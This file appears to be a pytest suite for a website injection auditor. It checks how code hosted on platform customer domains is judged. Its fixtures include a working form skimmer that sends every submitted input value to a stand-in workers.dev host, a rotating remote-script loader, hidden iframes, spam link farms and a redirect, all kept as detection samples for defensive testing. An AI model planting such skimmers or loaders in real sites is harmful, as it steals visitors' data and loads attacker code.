"""A hosting platform vouches for none of its customers' hosts.

github.io, pages.dev, workers.dev, firebaseapp.com, cloudfront.net and the open hosts
(jsDelivr's `/gh/`, unpkg, buckets by path, Google's users' sites and uploads) serve
whatever their customers put there: an injected payload
on `evil.github.io` is anyone's, not GitHub's. The catalogue names the platform (its
report's company), but the injection heuristics ask `Catalogue.runner_of`, which drops
the platform's own entry for a customer's host. Google's services under its hosting
suffixes (fonts.googleapis.com, ajax.googleapis.com, bp.blogspot.com) are named one by one
and keep their vouch.
"""

from __future__ import annotations

import pytest

from auditor.catalogue import Catalogue
from auditor.model import Severity

from .conftest import AuditListed
from .test_injection_families import URL, wp_page

H, M = Severity.HIGH, Severity.MEDIUM


@pytest.mark.parametrize("src", [
    "https://gazette-widgets.github.io/w.js",
    "https://gazette-promo.pages.dev/w.js",
    "https://harbour-tools.firebaseapp.com/w.js",
    "https://raw.githubusercontent.com/xq27/assets/main/w.js",
    "https://cdn.jsdelivr.net/gh/xq27/assets@main/w.js",
    "https://unpkg.com/xq27-widgets@1.0.2/w.js",
    "https://d3kq81x0example.cloudfront.net/w.js",
    "https://s3.amazonaws.com/xq27-bucket/w.js",
    "https://lh3.googleusercontent.com/d/1AbCdEfGhXq27/w.js",
])
def test_a_script_after_html_from_a_platform_customer_is_found(
        src: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'), URL)
    (found,) = [f for f in report.findings if f.kind == "appended-script"]
    assert found.severity is M and "check" in found.message  # no dressed name: medium


@pytest.mark.parametrize("src", [
    "https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js",
    "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js",
])
def test_the_platforms_own_library_hosts_still_vouch(src: str,
                                                      audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'), URL)
    assert [f for f in report.findings if f.kind == "appended-script"] == []


def test_a_skimmer_sending_by_image_to_a_workers_host_is_high(
        audit_listed: AuditListed) -> None:
    page = wp_page(footer=(
        "<script>document.addEventListener('submit',function(e){var d=[];e.target."
        "querySelectorAll('input').forEach(function(i){d.push(i.name+'='+i.value);});"
        "new Image().src='https://img-relay.xq27.workers.dev/p.gif?d='+encodeURIComponent("
        "d.join('&'));},true);</script>"))
    report = audit_listed(page, URL)
    assert ("form-skimmer", H) in [(f.kind, f.severity) for f in report.findings]


@pytest.mark.parametrize("src", ["https://promo-frame.pages.dev/",
                                 "https://sites.google.com/view/promo-xq27/home"])
def test_a_hidden_frame_of_a_customers_site_is_no_platforms(src: str,
                                                           audit_listed: AuditListed) -> None:
    """The platform vouches for none of its customers: their hidden frame is judged as an
    unknown host's, medium with no mark of injection and high with one (after `</html>`)."""
    frame = f'<iframe src="{src}" width="1" height="1" style="visibility:hidden"></iframe>'
    for where, expected in (({"footer": frame}, M), ({"after": frame}, H)):
        report = audit_listed(wp_page(**where), URL)
        assert ("hidden-iframe", expected) in [(f.kind, f.severity) for f in report.findings]


def test_a_contact_form_posted_to_google_apps_script_is_the_sites_choice(
        audit_listed: AuditListed) -> None:
    """Small sites keep their forms in a Google Sheet through Apps Script, as through a
    forms service: Google's Forms and Apps Script hosts are no open host."""
    page = wp_page(post=(
        "<form id='contact'><input name='email'><textarea name='msg'></textarea></form><script>"
        "document.getElementById('contact').addEventListener('submit',function(e){e."
        "preventDefault();fetch('https://script.google.com/macros/s/AKfycbxq27/exec',{method:"
        "'POST',body:new FormData(this)});});</script>"))
    report = audit_listed(page, URL)
    assert [f for f in report.findings if f.kind == "form-skimmer"] == []


def test_a_hidden_block_of_links_to_blogspot_blogs_is_a_link_farm(
        audit_listed: AuditListed) -> None:
    links = "".join(f'<a href="https://{name}.blogspot.com/">{name}</a> '
                    for name in ("cheap-pills-now", "casino-bonus-daily", "replica-watch-shop",
                                 "loan-fast-cash"))
    page = wp_page(footer=f'<div style="display:none">{links}</div>')
    report = audit_listed(page, URL)
    assert ("hidden-links", H) in [(f.kind, f.severity) for f in report.findings]


def test_a_hidden_gallerys_links_to_its_google_hosted_images_are_no_link_farm(
        audit_listed: AuditListed) -> None:
    """Blogger links each image to its full size on blogger.googleusercontent.com; a
    gallery kept off-screen for a lightbox links no site."""
    links = "".join(
        f'<a href="https://blogger.googleusercontent.com/img/b/R29vZ2xl/AVvXsE{n}/s1600/{n}.jpg">'
        f'<img src="https://blogger.googleusercontent.com/img/b/R29vZ2xl/AVvXsE{n}/s320/{n}.jpg">'
        '</a>' for n in "abcd")
    page = wp_page(post=f'<div class="gallery" style="position:absolute;left:-9999px">'
                        f'{links}</div>')
    report = audit_listed(page, URL)
    assert [f for f in report.findings if f.kind == "hidden-links"] == []


def test_one_customer_sending_visitors_to_another_is_a_redirect(
        audit_listed: AuditListed) -> None:
    page = ('<html><head><meta http-equiv="refresh" content="0;url=https://win-prizes.github.io/'
            '"><title>Notes</title></head><body><p>My notes.</p></body></html>')
    report = audit_listed(page, "https://my-notes.github.io/")
    assert ("redirect", H) in [(f.kind, f.severity) for f in report.findings]


@pytest.mark.parametrize(("host", "company"), [
    ("gazette-widgets.github.io", None),
    ("stats-collector.firebaseapp.com", None),
    ("cdn.jsdelivr.net", None),
    ("s3.amazonaws.com", None),
    ("lh3.googleusercontent.com", None),
    ("docs.google.com", "Google"),
    ("fonts.googleapis.com", "Google"),
    ("ajax.googleapis.com", "Google"),
    ("2.bp.blogspot.com", "Google"),
    ("cdnjs.cloudflare.com", "Cloudflare"),
])
def test_the_runner_of_a_host_is_named_only_where_the_catalogue_names_it(
        host: str, company: str | None, catalogue: Catalogue) -> None:
    runner = catalogue.runner_of(f"https://{host}/x.js", host)
    assert (runner.entity.company if runner.entity else None) == company
    # the report still names the platform that serves it
    assert catalogue.owners_of([(f"https://{host}/x.js", host)])[0].entity is not None


@pytest.mark.parametrize("src", [
    "https://harbour-app-prod.firebaseapp.com/__/auth/iframe?apiKey=AIzaSyA1&appName=%5BDEFAULT"
    "%5D&v=9.23.0",
    "https://harbour-app-prod.web.app/__/auth/iframe?apiKey=AIzaSyA1",
])
def test_firebase_auths_hidden_frame_on_the_sites_project_is_no_finding(
        src: str, audit_listed: AuditListed) -> None:
    """Firebase Auth's SDK adds a hidden iframe of the project's host; the `/__/` paths
    are Firebase Hosting's own on every customer's host, which no customer can deploy to
    (a rendered page's save holds the frame)."""
    page = wp_page(footer=f'<iframe src="{src}" style="position: absolute; width: 1px; '
                          'height: 1px; left: -9999px; top: -9999px;" tabindex="-1" '
                          'aria-hidden="true"></iframe>')
    report = audit_listed(page, URL)
    assert [f for f in report.findings if f.kind == "hidden-iframe"] == []


@pytest.mark.parametrize(("url", "company"), [
    ("https://x.firebaseapp.com/__/auth/iframe", "Google"),
    ("https://x.web.app/__/firebase/init.js", "Google"),
    ("https://x.web.app/p/__/auth/iframe", None),  # the customer's own path
    ("https://x.firebaseapp.com/w.js", None),
    # dot segments, which the browser resolves before asking: the customer's /p.js
    ("https://x.web.app/__/../p.js", None),
    ("https://x.web.app/__/%2E%2e/p.js", None),
    ("https://x.web.app/__\\..\\p.js", None),
    ("https://x.web.app/__/./../p.js", None),
])
def test_a_platforms_reserved_path_on_a_customers_host_is_the_platforms(
        url: str, company: str | None, catalogue: Catalogue) -> None:
    host = url.split("/")[2]
    runner = catalogue.runner_of(url, host)
    assert (runner.entity.company if runner.entity else None) == company


def test_a_script_after_html_through_a_reserved_paths_dot_segment_is_found(
        audit_listed: AuditListed) -> None:
    """`/__/../p.js` is requested as `/p.js`, which the customer deploys."""
    src = "https://promo-xq27.web.app/__/../p.js"
    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'), URL)
    assert [f.kind for f in report.findings].count("appended-script") == 1


@pytest.mark.parametrize("src", [
    "https://drive.google.com/file/d/1AbCdEfGhIjKlMnOpQrStUvWxYz012345/preview",
    "https://drive.google.com/embeddedfolderview?id=1AbCdEfGhIjKlMnOpQ#grid",
])
def test_a_drive_viewer_frame_in_a_closed_tab_is_no_finding(
        src: str, audit_listed: AuditListed) -> None:
    """Drive's viewer is Google's page showing a user's file (a school's PDF, a club's
    video), not the user's code; pages keep it in tabs and modals hidden until opened."""
    page = wp_page(post=(
        '<div class="tabs"><div class="tab-pane" id="minutes" style="display:none">'
        f'<iframe src="{src}" width="640" height="480" allow="autoplay"></iframe>'
        '</div></div>'))
    report = audit_listed(page, URL)
    assert [f for f in report.findings if f.kind == "hidden-iframe"] == []


def test_a_loader_rotating_among_three_workers_hosts_is_dollyway(
        audit_listed: AuditListed) -> None:
    """Three customers of one platform are three sites, as the link farm counts them."""
    hosts = ("relay-a.xq27.workers.dev", "cdn-b.mk81.workers.dev", "c.pz44.workers.dev")
    page = wp_page(footer=(
        "<script>(function(){var h=[" + ",".join(f"'https://{h}/t.js'" for h in hosts)
        + "];var s=document.createElement('script');s.src=h[Math.floor(Math.random()*h."
        "length)];document.head.appendChild(s);})();</script>"))
    report = audit_listed(page, URL)
    assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]
